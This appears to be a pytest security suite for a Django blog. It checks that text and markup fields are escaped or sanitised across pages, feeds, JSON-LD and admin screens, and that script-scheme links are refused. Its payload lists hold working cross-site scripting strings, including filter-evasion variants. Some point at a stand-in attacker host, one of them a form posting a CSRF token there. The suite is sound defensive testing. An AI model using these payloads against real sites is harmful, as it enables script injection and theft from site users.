"""Whatever a writer, an editor or a reader types is shown as text, in every place it is shown.

Each attack stores a payload in one field, the way its owner can (an author's own post and
profile, an editor's categories, tags, site identity and rating criteria, a reader's search),
then opens each page, feed, data block and admin screen that shows that field, and reads it as
a browser or a feed reader would (``tests.security.page_scan``): no element, attribute, script
or address of the attacker's may come out live, and the text itself must be there (so a case
cannot pass by the field simply not being shown).
"""

from __future__ import annotations

import pytest
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import AnonymousUser
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse

from blog.models import Post
from core.models import SiteIdentity
from ratings.models import Criterion, RatingRule, RatingSet
from ratings.readers import ip_hash
from ratings.services import vote_cast
from tests.factories import AuthorProfileFactory, CategoryFactory, PostFactory, UserFactory
from tests.security.page_scan import TOKEN, scan_response

# Text fields: breaking out of an element, of a quoted attribute, of a script block.
TEXT_PAYLOADS = [
    f'<script>alert("{TOKEN}")</script>',
    f"\"'><img src=x onerror=alert('{TOKEN}')>",
    f'</script><svg onload=alert("{TOKEN}")>',
]

# Markdown and raw-HTML fields (post body, author bio): the catalogue's markup attacks.
MARKUP_PAYLOADS = [
    f'<script>alert("{TOKEN}")</script>',
    f'<img src=x onerror=alert("{TOKEN}")>',
    f"<a href=\"javascript:alert('{TOKEN}')\">x</a>",
    f"<a href=\"JaVaScRiPt:alert('{TOKEN}')\">x</a>",
    f"<a href=\"jav&#x09;ascript:alert('{TOKEN}')\">x</a>",
    f"<a href=\" javascript:alert('{TOKEN}')\">x</a>",
    f'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{TOKEN}</a>',
    f"[{TOKEN}](javascript:alert('{TOKEN}'))",
    f"![{TOKEN}](javascript:alert('{TOKEN}'))",
    f"<javascript:alert('{TOKEN}')>",
    f'<svg onload=alert("{TOKEN}")>',
    f'<svg><script>alert("{TOKEN}")</script></svg>',
    f"<math><mi xlink:href=\"javascript:alert('{TOKEN}')\">x</mi></math>",
    f'<iframe src="//evil.example/{TOKEN}"></iframe>',
    f'<object data="//evil.example/{TOKEN}"></object>',
    f'<embed src="//evil.example/{TOKEN}">',
    f'<form action="//evil.example/{TOKEN}"><input name=csrfmiddlewaretoken></form>',
    f"<style>@import 'http://evil.example/{TOKEN}.css'</style>",
    f"<div style=\"background:url(javascript:alert('{TOKEN}'))\">x</div>",
    f'<meta http-equiv=refresh content="0;url=//evil.example/{TOKEN}">',
    f'<base href="//evil.example/{TOKEN}/">',
    f'<p class="x" title="<img src=x onerror=alert(\'{TOKEN}\')>">x</p>',
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{TOKEN}')>\"></noscript>",
    f"<!--<img src=\"--><img src=x onerror=alert('{TOKEN}')//\">",
    f'<a target=_blank href="//evil.example/{TOKEN}">x</a>',
]
# Shown next to the markup payload, so each case proves the field is rendered there.
MARKUP_WITNESS = "Quagga paragraph."


class World:
    """A small site: a published post by an author, filed, tagged, illustrated, credited and
    rated, an older post beside it in the same category, and an editor looking at the admin."""

    def __init__(self, editor):
        self.editor = editor
        self.author = UserFactory(username="writer", is_staff=True, groups=["Authors"])
        self.profile = AuthorProfileFactory(
            user=self.author, display_name="Wendy Writer", bio="Writes about zebras."
        )
        self.category = CategoryFactory(name="Field notes", description="From the field.")
        self.post = PostFactory(
            title="Zebra crossing",
            author=self.author,
            excerpt="About zebras.",
            body="Zebra body.",
            categories=[self.category],
            tags=["stripes"],
            featured_image="featured/2024/01/zebra.png",
            featured_image_alt="A zebra",
            featured_image_caption="A zebra at dawn",
            featured_image_credit="Agency",
            source_name="The Zebra Times",
            source_url="https://zebra.example/",
        )
        self.neighbour = PostFactory(title="Older post", categories=[self.category])
        self.tag = self.post.tags.get()
        self.site = SiteIdentity.objects.create(name="Savanna", tagline="Stripes daily")

    def vote(self):
        vote_cast(
            target=self.post,
            user=AnonymousUser(),
            reader_key="a:world-reader",
            ip_hash=ip_hash("192.0.2.7"),
            scores={c.key: 4 for c in self._criteria()},
        )

    def _criteria(self):
        rule = RatingRule.objects.filter(object_id=self.post.pk).first()
        rating_set = rule.rating_set if rule else RatingSet.objects.get(is_default=True)
        return list(rating_set.criteria.all())

    def vote_form(self, score: str) -> dict:
        criteria = self._criteria()
        if len(criteria) == 1:
            return {"score": score}
        return {f"score-{c.key}": score for c in criteria}


@pytest.fixture
def world(db, editor):
    return World(editor)


# -- Where each payload is stored, by whoever may store it --------------------------------------


def set_post(**fields):
    def setter(world, value):
        for name in fields:
            setattr(world.post, name, value if fields[name] is None else fields[name])
        world.post.save()

    return setter


def set_category_name(world, value):
    world.category.name = value
    world.category.save()


def set_category_description(world, value):
    world.category.description = value
    world.category.save()


def set_tag_name(world, value):
    world.tag.name = value
    world.tag.save()


def set_display_name(world, value):
    world.profile.display_name = value
    world.profile.save()


def set_bio(world, value):
    world.profile.bio = f"{MARKUP_WITNESS}\n\n{value}"
    world.profile.save()


def set_body(world, value):
    world.post.body = f"{MARKUP_WITNESS}\n\n{value}"
    world.post.excerpt = ""  # the feed then carries the rendered body
    world.post.save()


def set_site(field):
    def setter(world, value):
        setattr(world.site, field, value)
        if field == "description":
            world.site.tagline = ""  # the description stands in for a missing tagline
        world.site.save()

    return setter


def set_criterion_name(world, value):
    rating_set = RatingSet.objects.create(name="Review")
    Criterion.objects.create(rating_set=rating_set, name=value, key="first", position=0)
    Criterion.objects.create(rating_set=rating_set, name="Depth", key="depth", position=1)
    RatingRule.objects.create(
        content_type=ContentType.objects.get_for_model(Post),
        object_id=world.post.pk,
        rating_set=rating_set,
    )


def set_nothing(world, value):
    pass


# -- Where it is shown ---------------------------------------------------------------------------


def page(url_of):
    def fetch(client, world, value):
        return [client.get(url_of(world))]

    return fetch


def admin_page(url_of, *, as_superuser=False):
    def fetch(client, world, value):
        if as_superuser:
            client.force_login(UserFactory(username="owner", is_staff=True, is_superuser=True))
        else:
            client.force_login(world.editor)
        return [client.get(url_of(world))]

    return fetch


def rated_page(url_of):
    def fetch(client, world, value):
        world.vote()
        return [client.get(url_of(world))]

    return fetch


def rated_admin_page(url_of):
    def fetch(client, world, value):
        world.vote()
        client.force_login(world.editor)
        return [client.get(url_of(world))]

    return fetch


def post_history(client, world, value):
    LogEntry.objects.log_actions(
        user_id=world.author.pk,
        queryset=[world.post],
        action_flag=CHANGE,
        change_message=[{"changed": {"fields": ["Title"]}}],
        single_object=True,
    )
    client.force_login(world.editor)
    return [client.get(reverse("admin:blog_post_history", args=[world.post.pk]))]


def admin_saved(client, world, value):
    """An editor saves the post: the admin's "was changed successfully" message names it."""
    client.force_login(world.editor)
    url = reverse("admin:blog_post_change", args=[world.post.pk])
    post, when = world.post, world.post.published_at
    form = {
        "title": post.title, "slug": post.slug, "author": str(post.author_id),
        "excerpt": post.excerpt, "body": post.body, "featured_image_alt": "",
        "featured_image_caption": "", "featured_image_credit": "", "source_name": "",
        "source_url": "", "tags": "stripes", "categories": [str(world.category.pk)],
        "status": "published", "published_at_0": when.strftime("%Y-%m-%d"),
        "published_at_1": when.strftime("%H:%M:%S"), **inline_data(client, url),
    }  # fmt: skip
    response = client.post(url, form, follow=True)
    assert response.redirect_chain, response.context["adminform"].form.errors
    return [response]


def vote_json(client, world, value):
    url = reverse("ratings:vote", args=["blog.post", world.post.pk])
    response = client.post(url, world.vote_form("4"), HTTP_ACCEPT="application/json")
    assert response.status_code == 200, response.content
    return [response]


def vote_refused(client, world, value):
    """A ballot missing its scores: the error page (and its JSON twin) name the post and the
    criterion."""
    url = reverse("ratings:vote", args=["blog.post", world.post.pk])
    html = client.post(url, {})
    as_json = client.post(url, {}, HTTP_ACCEPT="application/json")
    assert html.status_code == as_json.status_code == 400
    return [html, as_json]


def search_for(query_of):
    def fetch(client, world, value):
        return [client.get(reverse("blog:search"), {"q": query_of(value)})]

    return fetch


CHANNELS = {
    "post page": page(lambda w: w.post.get_absolute_url()),
    "neighbour's page": page(lambda w: w.neighbour.get_absolute_url()),
    "home": page(lambda w: reverse("blog:post_list")),
    "category page": page(lambda w: w.category.get_absolute_url()),
    "tag page": page(lambda w: reverse("blog:tag", args=[w.tag.slug])),
    "author page": page(lambda w: w.profile.get_absolute_url()),
    "authors list": page(lambda w: reverse("authors:list")),
    "search results": search_for(lambda value: "zebra"),
    "search box": search_for(lambda value: value),
    "top rated": rated_page(lambda w: reverse("ratings:top_rated")),
    "not found page": page(lambda w: "/no-such-page/"),
    "feed": page(lambda w: reverse("blog:feed")),
    "category feed": page(lambda w: reverse("blog:category_feed", args=[w.category.slug])),
    "rss feed": page(lambda w: reverse("blog:feed_rss")),
    "tag feed": page(lambda w: reverse("blog:tag_feed_rss", args=[w.tag.slug])),
    "author feed": page(lambda w: reverse("authors:feed", args=[w.author.username])),
    "tag index": page(lambda w: reverse("blog:tag_index")),
    "sitemap": page(lambda w: reverse("sitemap")),
    "rating widget JSON": vote_json,
    "vote refused": vote_refused,
    "admin posts": admin_page(lambda w: reverse("admin:blog_post_changelist")),
    "admin post form": admin_page(lambda w: reverse("admin:blog_post_change", args=[w.post.pk])),
    "admin post history": post_history,
    "admin save message": admin_saved,
    "admin search box": lambda client, world, value: (
        client.force_login(world.editor),
        [client.get(reverse("admin:blog_post_changelist"), {"q": value})],
    )[1],
    "admin post delete": admin_page(lambda w: reverse("admin:blog_post_delete", args=[w.post.pk])),
    "admin categories": admin_page(lambda w: reverse("admin:blog_category_changelist")),
    "admin category form": admin_page(
        lambda w: reverse("admin:blog_category_change", args=[w.category.pk])
    ),
    "admin tags": admin_page(lambda w: reverse("admin:taggit_tag_changelist")),
    "admin profiles": admin_page(lambda w: reverse("admin:authors_authorprofile_changelist")),
    "admin profile form": admin_page(
        lambda w: reverse("admin:authors_authorprofile_change", args=[w.profile.pk])
    ),
    "admin site identity": admin_page(
        lambda w: reverse("admin:core_siteidentity_changelist"), as_superuser=True
    ),
    "admin vote log": rated_admin_page(lambda w: reverse("admin:ratings_vote_changelist")),
    "admin rating statistics": rated_admin_page(
        lambda w: reverse("admin:ratings_ratingaggregate_changelist")
    ),
    "admin rating sets": admin_page(lambda w: reverse("admin:ratings_ratingset_changelist")),
}

# Channels that show a field transformed (a slug in an address), not as text: scanned, but the
# text is not looked for.
TRANSFORMED = {"sitemap"}

TEXT_FIELDS = {
    "post title": (
        set_post(title=None),
        [
            "post page", "neighbour's page", "home", "category page", "tag page",
            "author page", "search results", "top rated", "feed", "category feed", "sitemap",
            "vote refused", "admin posts", "admin post form", "admin post history",
            "admin post delete", "admin save message", "admin vote log",
            "admin rating statistics", "rss feed", "tag feed", "author feed",
        ],
    ),
    "post excerpt": (
        set_post(excerpt=None),
        [
            "post page", "home", "category page", "tag page", "author page", "search results",
            "feed", "category feed", "admin post form", "rss feed", "tag feed", "author feed",
        ],
    ),
    "image alt text": (set_post(featured_image_alt=None), ["post page", "admin post form"]),
    "image caption": (
        set_post(featured_image_caption=None, featured_image_alt=""),
        ["post page", "admin post form"],
    ),
    "image credit": (set_post(featured_image_credit=None), ["post page", "admin post form"]),
    "source name": (
        set_post(source_name=None), ["post page", "feed", "rss feed", "admin post form"]
    ),
    "source name without address": (
        set_post(source_name=None, source_url=""),
        ["post page"],
    ),
    "category name": (
        set_category_name,
        [
            "post page", "neighbour's page", "home", "category page", "search results", "feed",
            "category feed", "sitemap", "admin posts", "admin post form", "admin categories",
            "admin category form", "rss feed",
        ],
    ),
    "category description": (
        set_category_description,
        ["category page", "admin category form"],
    ),
    "tag name": (
        set_tag_name,
        [
            "post page", "home", "tag page", "search results", "admin tags", "admin post form",
            "feed", "rss feed", "tag feed", "tag index",
        ],
    ),
    "author display name": (
        set_display_name,
        [
            "post page", "home", "author page", "authors list", "search results", "feed",
            "admin profiles", "admin profile form", "rss feed", "author feed",
        ],
    ),
    "site name": (
        set_site("name"),
        [
            "home", "post page", "author page", "not found page", "feed", "category feed",
            "admin site identity", "rss feed", "tag feed", "author feed", "tag index",
        ],
    ),
    "site tagline": (
        set_site("tagline"), ["home", "post page", "feed", "rss feed", "admin site identity"]
    ),
    "site description": (set_site("description"), ["home", "feed"]),
    "rating criterion name": (
        set_criterion_name,
        ["post page", "rating widget JSON", "vote refused", "admin rating sets"],
    ),
    "search query": (set_nothing, ["search box", "admin search box"]),
}  # fmt: skip

MARKUP_FIELDS = {
    "post body": (
        set_body,
        [
            "post page",
            "feed",
            "category feed",
            "rss feed",
            "tag feed",
            "author feed",
            "admin post form",
        ],
    ),
    "author bio": (set_bio, ["post page", "author page", "admin profile form"]),
}


def cases(fields, payloads) -> list:
    return list(_cases(fields, payloads))


def _cases(fields, payloads):
    for field, (_, channels) in fields.items():
        for channel in channels:
            for number, payload in enumerate(payloads):
                yield pytest.param(field, channel, payload, id=f"{field}-{channel}-{number}")


def assert_shown_as_text(client, world, setter, channel, value, witness):
    setter(world, value)
    shown = []
    for response in CHANNELS[channel](client, world, value):
        assert response.status_code in (200, 400, 404), (response.status_code, channel)
        scan = scan_response(response)
        assert scan.findings == [], scan.findings
        shown.append(scan.text)
    if channel not in TRANSFORMED:
        assert witness in "\n".join(shown), f"{witness!r} is not shown on {channel}"


@pytest.mark.parametrize(("field", "channel", "payload"), cases(TEXT_FIELDS, TEXT_PAYLOADS))
def test_text_fields_are_shown_as_text_everywhere(client, world, field, channel, payload):
    setter, _ = TEXT_FIELDS[field]
    assert_shown_as_text(client, world, setter, channel, payload, witness=payload)


@pytest.mark.parametrize(("field", "channel", "payload"), cases(MARKUP_FIELDS, MARKUP_PAYLOADS))
def test_markup_fields_lose_everything_that_runs_everywhere(client, world, field, channel, payload):
    setter, _ = MARKUP_FIELDS[field]
    witness = payload if channel.startswith("admin") else MARKUP_WITNESS
    assert_shown_as_text(client, world, setter, channel, payload, witness=witness)


def test_json_ld_carries_the_title_and_author_exactly(client, world):
    """The structured-data block is data, not markup: a title that closes the script and opens
    another comes back out of the JSON unchanged, and nothing runs."""
    title, name = TEXT_PAYLOADS[2], TEXT_PAYLOADS[1]
    set_post(title=None)(world, title)
    set_display_name(world, name)
    world.vote()
    scan = scan_response(client.get(world.post.get_absolute_url()))
    assert scan.findings == []
    blocks = {block["@type"]: block for block in scan.json_blocks}
    assert sorted(blocks) == ["BlogPosting", "BreadcrumbList"]
    block = blocks["BlogPosting"]
    assert block["headline"] == title
    assert block["author"] == {"@type": "Person", "name": name}
    assert block["aggregateRating"]["ratingCount"] == 1
    assert blocks["BreadcrumbList"]["itemListElement"][-1]["name"] == title


# -- Addresses: only web links get in ------------------------------------------------------------

SCRIPT_ADDRESSES = [
    f"javascript:alert('{TOKEN}')",
    f"JaVaScRiPt:alert('{TOKEN}')",
    f" javascript:alert('{TOKEN}')",
    f"java\tscript:alert('{TOKEN}')",
    f"javascript://example.org/%0aalert('{TOKEN}')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:msgbox('{TOKEN}')",
]
# A real address that ends in an attribute break-out: accepted, and shown escaped.
QUOTED_ADDRESS = f"https://example.org/x\"onmouseover=\"alert('{TOKEN}')"

PROFILE_LINKS = ["website", "mastodon", "bluesky", "linkedin", "github"]


def post_form(post, **overrides) -> dict:
    data = {
        "title": post.title, "slug": post.slug, "excerpt": post.excerpt, "body": post.body,
        "featured_image_alt": "", "featured_image_caption": "", "featured_image_credit": "",
        "source_name": post.source_name, "source_url": post.source_url, "tags": "stripes",
        "status": "draft", "published_at_0": "", "published_at_1": "",
    }  # fmt: skip
    data.update(overrides)
    return data


def profile_form(profile, **overrides) -> dict:
    data = {"display_name": profile.display_name, "bio": profile.bio, "website": "",
            "mastodon": "", "bluesky": "", "linkedin": "", "github": ""}  # fmt: skip
    data.update(overrides)
    return data


def inline_data(client, url) -> dict:
    from tests.admin_forms import inline_management_data

    return inline_management_data(client, url)


@pytest.fixture
def draft(world):
    world.post.status, world.post.published_at = Post.Status.DRAFT, None
    world.post.save()
    return world.post


@pytest.mark.parametrize("address", SCRIPT_ADDRESSES)
def test_author_cannot_give_a_post_a_script_source_link(client, world, draft, address):
    client.force_login(world.author)
    url = reverse("admin:blog_post_change", args=[draft.pk])
    form = post_form(draft, source_url=address)
    response = client.post(url, {**form, **inline_data(client, url)})
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["source_url"]
    draft.refresh_from_db()
    assert draft.source_url == "https://zebra.example/"


@pytest.mark.parametrize("field", PROFILE_LINKS)
@pytest.mark.parametrize("address", SCRIPT_ADDRESSES)
def test_author_cannot_put_a_script_link_on_their_profile(client, world, field, address):
    client.force_login(world.author)
    url = reverse("admin:authors_authorprofile_change", args=[world.profile.pk])
    response = client.post(url, profile_form(world.profile, **{field: address}))
    assert response.status_code == 200
    assert response.context["adminform"].form.errors[field]
    world.profile.refresh_from_db()
    assert getattr(world.profile, field) == ""


def test_quoted_source_link_stays_inside_its_attribute(client, world, draft):
    client.force_login(world.author)
    url = reverse("admin:blog_post_change", args=[draft.pk])
    form = post_form(draft, source_url=QUOTED_ADDRESS)
    assert client.post(url, {**form, **inline_data(client, url)}).status_code == 302
    draft.refresh_from_db()
    assert draft.source_url == QUOTED_ADDRESS
    response = client.get(reverse("blog:post_preview", args=[draft.pk]))
    scan = scan_response(response)
    assert scan.findings == []
    assert QUOTED_ADDRESS in scan.text


@pytest.mark.parametrize("field", PROFILE_LINKS)
def test_quoted_profile_link_stays_inside_its_attribute(client, world, field):
    client.force_login(world.author)
    url = reverse("admin:authors_authorprofile_change", args=[world.profile.pk])
    form = profile_form(world.profile, **{field: QUOTED_ADDRESS})
    assert client.post(url, form).status_code == 302
    client.logout()
    response = client.get(world.profile.get_absolute_url())
    scan = scan_response(response)
    assert scan.findings == []
    assert QUOTED_ADDRESS in scan.text
